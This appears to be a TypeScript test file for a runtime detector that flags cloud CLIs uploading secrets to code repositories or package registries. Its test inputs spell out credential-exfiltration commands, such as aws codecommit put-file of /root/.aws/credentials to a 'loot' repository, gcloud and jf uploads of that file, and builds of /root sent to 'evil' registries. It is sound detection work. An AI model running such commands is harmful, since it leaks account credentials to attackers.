/**
 * Cloud CLIs that put a local file into a code repository or a package registry (found by red-team review):
 * `aws codecommit put-file --file-content fileb:///root/.aws/credentials` commits a credential to a
 * CodeCommit repository with no git at all, a few KiB over HTTPS, and raised nothing; so did the same file
 * through Artifact Registry, Azure Artifacts or Artifactory. The first connect names the destination.
 * Cloud builds (`gcloud builds submit`, `az acr build`/`run`) upload their source directory the same way.
 */
import { describe, expect, it } from 'vitest';
import { brief } from './builder.js';
import { credentialReadThen } from './cloud-cli-scenario.js';

const API_IP = '52.94.228.10';

function secretThen(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  return credentialReadThen(binary, args, API_IP, source);
}

describe('cloud CLIs uploading a file to a repository or registry', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`aws codecommit put-file of a credential is high (${source})`, () => {
      const alerts = secretThen(
        '/usr/local/bin/aws',
        'codecommit put-file --repository-name loot --branch-name main --file-content fileb:///root/.aws/credentials --file-path c',
        source,
      );
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'aws', destination: `${API_IP}:443` },
      ]);
      expect(alerts[0]!.push.remote).toBe('loot');
    });
  }

  it('the AWS CLI v1 run by its interpreter is the same push', () => {
    const alerts = secretThen(
      '/usr/bin/python3',
      '/usr/local/bin/aws codecommit put-file --repository-name loot --branch-name main --file-content fileb:///root/.aws/credentials --file-path c',
    );
    expect(brief(alerts)).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'aws' }]);
  });

  it('gcloud artifacts generic upload and jf rt upload are high', () => {
    for (const [binary, args, tool] of [
      [
        '/usr/bin/gcloud',
        'artifacts generic upload --source=/root/.aws/credentials --package=x --version=1 --repository=r --location=us',
        'gcloud',
      ],
      ['/usr/local/bin/jf', 'rt upload /root/.aws/credentials generic-local/x', 'jfrog'],
    ] as const)
      expect(brief(secretThen(binary, args))).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high', tool },
      ]);
  });

  // Red-team review: a cloud build uploads its whole source directory (to Cloud Build's bucket, to ACR's
  // storage) before building anything, and was no push at all.
  it('gcloud builds submit and az acr build/run of a local directory are pushes', () => {
    for (const [binary, args, tool, remote] of [
      ['/usr/bin/gcloud', 'builds submit /root --tag gcr.io/evil/x', 'gcloud', '/root'],
      ['/usr/bin/gcloud', 'beta builds submit --config=cloudbuild.yaml', 'gcloud', null],
      ['/usr/bin/az', 'acr build --registry evilreg --image x:1 --no-push /srv/data', 'az', 'evilreg'],
      ['/usr/bin/az', 'acr run -r evilreg -f task.yaml .', 'az', 'evilreg'],
    ] as const) {
      const alerts = secretThen(binary, args);
      expect(brief(alerts), args).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool, destination: `${API_IP}:443` },
      ]);
      expect(alerts[0]!.push.remote, args).toBe(remote);
    }
  });

  it('cloud builds of sources already in the cloud, or with no source, stay quiet', () => {
    for (const [binary, args] of [
      ['/usr/bin/gcloud', 'builds submit gs://acme-src/app.tgz --tag gcr.io/acme/app'],
      ['/usr/bin/gcloud', 'builds submit --no-source --config cloudbuild.yaml'],
      ['/usr/bin/gcloud', 'builds submit https://github.com/acme/app --git-source-revision=main'],
      ['/usr/bin/az', 'acr run -r acmereg --cmd acmereg.azurecr.io/hello:v1 /dev/null'],
      ['/usr/bin/az', 'acr build -r acmereg -t app:1 https://github.com/acme/app.git#main'],
    ] as const)
      expect(secretThen(binary, args), args).toEqual([]);
  });

  it('their logins and reads stay quiet', () => {
    expect(secretThen('/usr/local/bin/aws', 'ecr get-login-password --region us-east-1')).toEqual([]);
    expect(secretThen('/usr/local/bin/aws', 'codecommit get-file --repository-name app --file-path README.md')).toEqual(
      [],
    );
  });
});
